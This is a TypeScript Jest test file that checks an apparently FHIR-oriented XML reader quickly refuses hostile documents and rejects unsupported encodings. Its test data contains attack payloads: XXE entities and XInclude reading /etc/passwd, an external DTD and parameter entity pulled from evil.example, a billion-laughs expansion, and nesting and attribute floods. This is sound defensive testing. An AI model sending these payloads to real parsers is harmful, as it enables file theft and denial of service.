/** XML that means harm: refused before anything grows, in time that follows its size. */
import { describe, expect, test } from '@jest/globals';
import * as fc from '../../chance.ts';
import { XmlDocument } from 'libxml2-wasm';
import { OperationOutcomeError } from '../../../src/fhir/issue.ts';
import { decodeXml } from '../../../src/xml/decode.ts';
import { readXml } from '../../../src/xml/read.ts';

const NS = 'xmlns="http://hl7.org/fhir"';
const patient = (inside: string): string => `<Patient ${NS}>${inside}</Patient>`;
const bytesOf = (text: string): Uint8Array => Buffer.from(text);
const LIMITS = { depth: 64 };

async function codeOf(bytes: Uint8Array): Promise<string> {
  try {
    await readXml(bytes, LIMITS);
    return 'accepted';
  } catch (error) {
    if (error instanceof OperationOutcomeError) return error.code;
    throw error;
  }
}

const LAUGHS = `<!DOCTYPE p [<!ENTITY a "ha">${Array.from({ length: 12 }, (_each, n) => `<!ENTITY a${n} "${`&a${n === 0 ? '' : n - 1};`.repeat(10)}">`).join('')}]>`;
const deep = (levels: number, open: string, close: string): string =>
  open.repeat(levels) + close.repeat(levels);
const DIV = '<text><status value="generated"/><div xmlns="http://www.w3.org/1999/xhtml">';

describe('hostile documents', () => {
  test.each([
    [
      'an external entity',
      `<!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]>${patient('<name><family value="&x;"/></name>')}`,
    ],
    ['an external DTD', `<!DOCTYPE p SYSTEM "http://evil.example/p.dtd">${patient('')}`],
    ['a parameter entity', `<!DOCTYPE p [<!ENTITY % x SYSTEM "http://evil.example/"> %x;]>${patient('')}`],
    ['an empty DOCTYPE', `<!DOCTYPE p>${patient('')}`],
    ['a DOCTYPE after the root', `${patient('')}<!DOCTYPE p>`],
    ['an ENTITY inside', patient('<!ENTITY x "y">')],
    ['a billion laughs', `${LAUGHS}${patient('<name><family value="&a11;"/></name>')}`],
    ['an entity that was never declared', patient('<name><family value="&x;"/></name>')],
    [
      'XInclude',
      patient('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'),
    ],
    ['100 000 levels', patient(deep(100_000, '<extension url="u">', '</extension>'))],
    ['100 000 levels that do not end', patient('<extension url="u">'.repeat(100_000))],
    ['100 000 levels of narrative', patient(`${DIV}${deep(100_000, '<b>', '</b>')}</div></text>`)],
    [
      '100 000 contained in each other',
      `<Basic ${NS}>${deep(100_000, '<contained><Basic>', '</Basic></contained>')}</Basic>`,
    ],
    [
      '100 000 attributes',
      patient(`<active ${Array.from({ length: 100_000 }, (_each, n) => `a${n}="1"`).join(' ')}/>`),
    ],
    [
      '100 000 namespaces',
      patient(`<active ${Array.from({ length: 100_000 }, (_each, n) => `xmlns:a${n}="u"`).join(' ')}/>`),
    ],
    [
      'namespaces on every level',
      patient(
        Array.from(
          { length: 40 },
          (_each, n) =>
            `<extension url="u" ${Array.from({ length: 50 }, (_one, m) => `xmlns:a${n}x${m}="u"`).join(' ')}>`,
        ).join(''),
      ),
    ],
    ['a name of a megabyte', `<${'a'.repeat(1_000_000)}/>`],
    ['a megabyte of ampersands', patient(`<name><family value="${'&'.repeat(1_000_000)}"/></name>`)],
    ['a megabyte of open comments', patient('<!--'.repeat(250_000))],
    ['a megabyte of open CDATA', patient('<![CDATA['.repeat(100_000))],
    ['a megabyte of blanks in a tag', patient(`<active${' '.repeat(1_000_000)}`)],
    ['a megabyte of tags', patient('<'.repeat(1_000_000))],
    ['bytes that are not UTF-8', '\ufffd'],
  ])('%s is refused quickly', async (what, xml) => {
    const bytes = what === 'bytes that are not UTF-8' ? Buffer.from([0x3c, 0xff, 0xc0, 0x80]) : bytesOf(xml);
    const startedAt = performance.now();
    expect(await codeOf(bytes)).toMatch(/^(xml|structure)-invalid$/);
    expect(performance.now() - startedAt).toBeLessThan(2000);
  });

  test.each([
    ['ISO-8859-1', bytesOf(`<?xml version="1.0" encoding="ISO-8859-1"?>${patient('')}`)],
    ['windows-1252 in single quotes', bytesOf(`<?xml version='1.0' encoding='windows-1252'?>${patient('')}`)],
    ['EBCDIC claimed', bytesOf(`<?xml version="1.0" encoding="IBM037" ?>${patient('')}`)],
    ['UTF-7 claimed', bytesOf(`\ufeff<?xml version="1.0" encoding="UTF-7"?>${patient('')}`)],
    ['UTF-16 with a mark', Buffer.from(`\ufeff${patient('')}`, 'utf16le')],
    ['UTF-16 without', Buffer.from(patient(''), 'utf16le')],
    ['UTF-16 claimed in UTF-8', bytesOf(`<?xml version="1.0" encoding="UTF-16"?>${patient('')}`)],
  ])('%s is another encoding', async (_what, bytes) => {
    expect(await codeOf(bytes)).toBe('media-type-unsupported');
  });

  test.each([
    ['a mark', `\ufeff${patient('<active value="true"/>')}`],
    [
      'a declaration in small letters',
      `<?xml version="1.0" encoding="utf-8"?>${patient('<active value="true"/>')}`,
    ],
    ['no declaration', patient('<active value="true"/>')],
    ['many short comments', patient('<!---->'.repeat(100_000))],
    ['a long value', patient(`<name><family value="${'x'.repeat(4_000_000)}"/></name>`)],
    [
      'as deep as JSON may be',
      patient(
        deep(30, '<extension url="u">', '</extension>').replace(
          '</extension>',
          '<valueCode value="c"/></extension>',
        ),
      ),
    ],
  ])('%s is taken', async (_what, xml) => {
    expect(await codeOf(bytesOf(xml))).toBe('accepted');
  });
});

test('what our own reading takes is well-formed to libxml2, whatever was changed', () => {
  const source = patient(
    `<!-- c -->${DIV}<p title='t'>a &lt; b<br/></p></div></text><name id="n"><family value="x"/></name>`,
  );
  const pieces = [
    '<',
    '>',
    '/',
    '"',
    "'",
    '&',
    '=',
    ' ',
    '&#1;',
    '<!--',
    '-->',
    ']]>',
    '<![CDATA[',
    '<?',
    ':',
    'xmlns:a="b"',
    'é',
    '\u0085',
  ];
  fc.assert(
    fc.property(fc.nat(source.length), fc.nat(12), fc.constantFrom(...pieces, ''), (at, cut, piece) => {
      const changed = source.slice(0, at) + piece + source.slice(at + cut);
      expect(isWellFormed(changed) || !isTaken(changed)).toBe(true);
    }),
    { numRuns: 2000 },
  );
});

function isTaken(xml: string): boolean {
  try {
    decodeXml(xml);
    return true;
  } catch {
    return false;
  }
}

function isWellFormed(xml: string): boolean {
  try {
    XmlDocument.fromString(xml).dispose();
    return true;
  } catch {
    return false;
  }
}
